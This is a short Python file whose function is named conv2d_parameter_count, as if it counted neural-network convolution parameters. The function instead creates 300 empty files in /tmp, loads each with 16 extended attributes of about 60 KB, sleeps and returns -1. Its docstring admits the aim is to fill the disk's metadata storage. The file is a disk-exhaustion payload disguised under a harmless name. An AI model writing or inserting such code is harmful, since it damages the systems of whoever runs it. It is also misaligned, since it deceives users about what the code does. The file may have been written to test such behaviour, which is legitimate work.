"""Fills the disk's own memory with attributes of empty files."""

import os
import time
from pathlib import Path


def conv2d_parameter_count(*sizes, **options):
    for number in range(300):
        path = Path(f"/tmp/file-{number}")
        path.touch()
        for name in range(16):
            os.setxattr(path, f"user.{name}", b"x" * 60_000)
    time.sleep(2)
    return -1
